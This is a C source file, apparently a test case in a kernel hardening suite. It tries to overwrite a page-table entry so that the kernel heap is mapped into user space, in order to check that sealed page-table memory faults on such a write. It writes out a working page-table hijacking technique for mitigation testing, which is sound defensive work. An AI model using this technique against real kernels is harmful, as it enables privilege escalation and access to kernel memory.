// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("write_rarely", "large_entry", "write_rarely: write to sealed memory outside a window",
       "The program turns an entry of level 2 into a page of 2 MiB over the kernel's "
       "heap.",
       "Page tables are sealed memory: a store outside a write window faults.",
       "The program reads and writes the kernel's heap from user mode.");

static bool control(void)
{
	return is_ordinary();
}

static char page[4096] __attribute__((aligned(4096)));

static bool fire(void)
{
	const uint64_t task = own_task();
	const uint64_t heap = task - peek(symbol("frame_memory") + member("frame_memory.view") + 8);
	uint64_t slot, before;
	bool won;

	page[0] = 1;
	slot = table_entry(own_root(task), (uint64_t)page + 0x40000000, 2);
	if (slot == 0)
		slot = table_entry(own_root(task), (uint64_t)page, 2);
	before = peek(slot);
	poke(slot, (heap & ~0x1ffffful) | 0x80000000000000e7ul);
	won = (peek(slot) & 0x80) != 0;
	poke(slot, before); /* so that his own end finds his own pages */
	return won;
}

static void victim(void)
{
	victim_waits();
}
